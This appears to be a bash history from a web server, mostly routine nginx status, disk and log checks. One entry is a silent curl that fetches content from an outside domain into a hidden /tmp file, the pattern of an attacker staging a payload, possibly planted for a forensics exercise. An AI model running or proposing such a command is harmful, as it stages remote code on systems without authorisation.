#1773278040
systemctl status nginx
#1773278100
df -h
#1773278160
systemctl status nginx
#1773278220
systemctl status nginx
#1773281640
df -h
#1773281700
systemctl status nginx
#1773281760
uptime
#1773281820
df -h
#1773292440
tail -n 50 /var/log/nginx/error.log
#1773292500
systemctl status nginx
#1773292560
tail -n 50 /var/log/nginx/error.log
#1773292620
ls -la /srv/www
#1773292811
curl -s -o /tmp/.cache-upd 'http://org.misecure.com/index.htmld?flag=ZGVtbw=='
#1773303240
df -h
#1773303300
df -h
#1773303360
systemctl status nginx
#1773303420
tail -n 50 /var/log/nginx/error.log
